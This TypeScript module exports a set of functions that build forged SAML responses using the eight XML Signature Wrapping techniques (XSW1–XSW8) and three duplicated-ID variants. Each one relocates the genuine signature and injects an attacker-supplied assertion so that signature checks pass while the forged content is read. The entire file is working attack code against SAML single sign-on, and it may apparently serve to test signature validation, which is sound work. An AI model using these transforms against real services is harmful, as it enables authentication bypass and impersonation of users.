/**
 * The eight ways to wrap a signed response (Somorovsky and others, 2012), with a forged assertion that has the
 * identifier of the signed one: the signature still covers the signed part, and a careless reader reads another one.
 *
 * @param forge turns signed content into the attacker's content
 */
type Wrapping = (xml: string, forge: (part: string) => string) => string

const RESPONSE_HEAD = /^<samlp:Response[^>]*>/
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/
const ID = / ID="[^"]+"/

const headOf = (xml: string) => RESPONSE_HEAD.exec(xml)?.[0] ?? ''
const bodyOf = (xml: string) => xml.slice(headOf(xml).length, -'</samlp:Response>'.length)
const assertionOf = (xml: string) => ASSERTION.exec(xml)?.[0] ?? ''
const signatureOf = (xml: string) => SIGNATURE.exec(xml)?.[0] ?? ''
const unsigned = (xml: string) => xml.replace(SIGNATURE, '')
const renamed = (xml: string) => xml.replace(ID, ' ID="_forged"')
const inObject = (signature: string, part: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${part}</ds:Object></ds:Signature>`)

/** A forged response around (or beside) the signed one. */
function aroundResponse(xml: string, forge: (part: string) => string, signed: string): string {
  const forged = forge(unsigned(bodyOf(xml).replace(SIGNATURE, '')))
  return `${renamed(headOf(xml))}${signed}${forged}</samlp:Response>`
}

/** Replaces the signed assertion. */
const inPlace = (xml: string, instead: (assertion: string) => string): string => {
  const assertion = assertionOf(xml)
  return xml.replace(assertion, () => instead(assertion))
}

export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  'XSW1, the signed response inside the signature of a forged one': (xml, forge) =>
    aroundResponse(xml, forge, inObject(signatureOf(xml), unsigned(xml))),
  'XSW2, the signed response beside its signature': (xml, forge) =>
    aroundResponse(xml, forge, `${unsigned(xml)}${signatureOf(xml)}`),
  'XSW3, a forged assertion before the signed one': (xml, forge) =>
    inPlace(xml, (signed) => `${renamed(unsigned(forge(signed)))}${signed}`),
  'XSW4, the signed assertion inside a forged one': (xml, forge) =>
    inPlace(xml, (signed) =>
      renamed(unsigned(forge(signed))).replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
    ),
  'XSW5, a forged assertion with the signature, the signed one after it': (xml, forge) =>
    inPlace(
      xml,
      (signed) =>
        `${renamed(forge(unsigned(signed))).replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(signed)}`)}${unsigned(signed)}`,
    ),
  'XSW6, the signed assertion inside the signature of a forged one': (xml, forge) =>
    inPlace(xml, (signed) =>
      renamed(forge(unsigned(signed))).replace(
        '</saml:Issuer>',
        () => `</saml:Issuer>${inObject(signatureOf(signed), unsigned(signed))}`,
      ),
    ),
  'XSW7, a forged assertion among extensions': (xml, forge) =>
    inPlace(xml, (signed) => `<samlp:Extensions>${unsigned(forge(signed))}</samlp:Extensions>${signed}`),
  'XSW8, the signed assertion in an object of the forged one’s signature': (xml, forge) =>
    inPlace(xml, (signed) =>
      unsigned(forge(signed)).replace(
        '</saml:Issuer>',
        () =>
          `</saml:Issuer>${inObject(signatureOf(signed), `<samlp:Extensions>${unsigned(signed)}</samlp:Extensions>`)}`,
      ),
    ),
  'a duplicated ID, the forged assertion first': (xml, forge) =>
    inPlace(xml, (signed) => `${unsigned(forge(signed))}${signed}`),
  'a duplicated ID, the forged assertion last': (xml, forge) =>
    inPlace(xml, (signed) => `${signed}${unsigned(forge(signed))}`),
  'a duplicated ID, the forged assertion with the signature too': (xml, forge) =>
    inPlace(xml, (signed) => `${forge(signed)}${signed}`),
}
